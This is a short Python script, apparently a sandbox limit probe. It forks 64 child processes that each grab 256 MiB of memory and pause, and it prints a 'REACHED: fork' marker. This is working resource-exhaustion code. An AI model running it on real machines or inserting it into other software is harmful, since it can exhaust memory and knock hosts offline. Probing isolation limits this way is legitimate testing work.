# SPDX-License-Identifier: MIT
import os
try:
    for _ in range(64):
        if os.fork() == 0:
            hoard = bytearray(1 << 28)
            os.pause() if hasattr(os, "pause") else os._exit(0)
        print("REACHED: fork")
except OSError:
    pass
